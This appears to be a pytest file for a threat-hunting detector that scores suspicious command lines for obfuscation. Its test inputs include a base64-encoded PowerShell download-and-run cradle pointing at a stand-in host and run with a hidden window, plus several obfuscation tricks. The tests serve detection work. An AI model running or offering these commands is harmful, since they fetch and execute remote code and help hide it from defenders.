import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.hunt.patterns.processes.wording import entropy, judge

ENCODED = base64.b64encode(
    ("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')").encode("utf-16-le")
).decode()


def test_encoded_text_is_read() -> None:
    found = judge(f"powershell.exe -NoP -W Hidden -Enc {ENCODED}")
    assert found.decoded.startswith("IEX")
    assert found.score >= 1
    assert "it fetches code and runs it" in found.why


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("c^m^d /c e^c^h^o hi", "carets tear its words apart"),
        ("&('{1}{0}' -f 'EX','I') ('{0}{1}{2}' -f 'a','b','c')", "its strings are put in order by a format"),
        ("[char]73+[char]69+[char]88+[char]32", "characters are given by number"),
        ("%comspec:~0,1%%comspec:~2,1%%comspec:~4,1%", "words are cut out of variables"),
        ("('a'+'b'+'c'+'d')", "its strings are put together from pieces"),
        ("pOwErShElL -cOmMaNd gEt-PrOcEsS", "its letters change case at random"),
    ],
)
def test_ways_to_hide(command: str, words: str) -> None:
    assert words in judge(command).why


@pytest.mark.parametrize(
    "command",
    [
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
        "powershell.exe -File C:\\scripts\\backup.ps1",
        "git commit -m 'Say why'",
        "msiexec /i product.msi /quiet",
        'cmd.exe /c "echo hello && dir"',
    ],
)
def test_plain_commands_score_nothing(command: str) -> None:
    assert judge(command).score == 0


def test_code_that_is_decoded_and_run_is_enough() -> None:
    found = judge(
        "powershell -c IEX([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('SGVsbG8=')))"
    )
    assert found.score >= 1


def test_encoded_text_of_a_management_tool_is_not_enough() -> None:
    blob = base64.b64encode("Get-Service | Out-File C:\\report.txt".encode("utf-16-le")).decode()
    assert 0 < judge(f"powershell.exe -EncodedCommand {blob}").score < 0.6


@settings(deadline=None)
@given(st.text(max_size=300))
def test_any_command_gets_a_score(command: str) -> None:
    assert judge(command).score >= 0


def test_entropy() -> None:
    assert entropy("") == 0
    assert entropy("aaaa") == 0
    assert entropy("abcd") == 2
